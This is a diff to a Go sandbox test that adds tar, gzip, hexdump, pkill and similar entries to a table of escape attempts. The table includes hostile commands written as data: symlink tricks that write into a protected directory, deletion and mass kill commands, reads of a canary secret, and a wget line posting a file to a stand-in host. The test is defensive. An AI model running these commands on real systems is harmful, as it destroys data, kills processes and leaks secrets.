@@ -62,6 +62,15 @@ func attacks() map[string][]string {
 		"find": {"find DIR", "find DIR/", "find . -exec cat {} +", "find -L . -type f -exec cat {} ';'", "find DIR -delete", "find x -newer FILE && echo " + visible},
 		"sync": {"sync FILE"}, "basename": {"for f in DIR/*; do basename $f; done"}, "dirname": {"dirname DIR/*"}, "pwd": {"cd DIR && pwd -P && echo " + visible}, "which": {"which DIR/program && echo " + visible, "PATH=DIR /bin/which program"},
 		"env": {"env", "env -i cat FILE", "env DIR/program", "env PATH=DIR program", "env -i env"}, "printenv": {"printenv", "printenv K8SLAB_CANARY"},
+		"tar": {"tar cf - DIR | tar xf - -O", "tar c FILE", "tar cf x.tar -C DIR .; tar xOf x.tar", "tar cf DIR/new x", "tar cf x.tar x; tar xf x.tar -C DIR", "tar tf FILE", "tar xf DIR/new.tar",
+			"ln -s DIR l; tar cf y.tar l/canary; tar xOf y.tar", "mkdir d; ln -s DIR d/e; tar cf z.tar d; rm -r d; tar xf z.tar; echo x > d/e/new; cat d/e/canary"},
+		"gzip": {"gzip -c FILE | zcat", "gzip FILE", "gzip -f DIR/canary", "gzip -k x; mv x.gz DIR/new"}, "gunzip": {"gunzip FILE", "gunzip -c FILE", "echo x | gzip | gunzip > DIR/new"}, "zcat": {"zcat FILE", "echo x | gzip | zcat > DIR/new"},
+		"od": {"od -c FILE && echo " + visible}, "hexdump": {"hexdump -C FILE && echo " + visible}, "xxd": {"xxd FILE && echo " + visible}, "strings": {"strings FILE"},
+		"diff": {"diff FILE x", "diff -r DIR .", "diff -N DIR d", "diff x FILE"}, "cmp": {"cmp -s FILE FILE && echo " + visible, "cmp x FILE"},
+		"paste": {"paste FILE x", "paste -s FILE"}, "fold": {"fold FILE"}, "shuf": {"shuf FILE", "shuf -o DIR/new x"}, "less": {"less FILE"}, "more": {"more FILE"}, "unlink": {"unlink FILE", "unlink DIR/canary"},
+		"df": {"df FILE && echo " + visible, "df DIR"}, "free": {"free"}, "uptime": {"uptime"}, "pidof": {"pidof -s systemd init go"}, "pgrep": {"pgrep -fl ."},
+		"pkill": {"pkill -9 -f go"}, "killall": {"killall -9 go"}, "watch": {"timeout 0.2 watch -n 0.1 cat FILE"}, "nohup": {"nohup cat FILE", "nohup DIR/program"}, "nice": {"nice cat FILE"},
+		"setsid": {"setsid cat FILE"}, "time": {"command time cat FILE"}, "tty": {"tty"}, "groups": {"groups"}, "clear": {"clear > FILE"}, "hostid": {"hostid"},
 		"hostname": {"hostname -F FILE", "hostname FILE"}, "uname": {"uname -a"}, "id": {"id"}, "whoami": {"whoami"}, "nproc": {"nproc"}, "ps": {"ps -ef"},
 		"kill": {fmt.Sprintf("kill -9 %d; kill -0 %d && echo %s", os.Getpid(), os.Getpid(), visible), fmt.Sprintf("kill -9 -%d", os.Getpid()), "kill -9 -1"},
 		"wget": {"wget -O FILE http://x/", "wget file://FILE", "wget -O- file://DIR/canary", "wget -P DIR http://x/", "wget --post-file=FILE http://x/", "wget -i FILE"},
@@ -273,7 +282,7 @@ func (b *box) mustNotHold(t *testing.T, secret string) {
 func TestAttacksAreReal(t *testing.T) {
 	all := attacks()
 	all["the shell"] = constructs()
-	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget nc dirname date")
+	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget nc dirname date free uptime pidof pgrep pkill killall tty groups hostid")
 	for name, list := range all {
 		if slices.Contains(harmless, name) {
 			continue
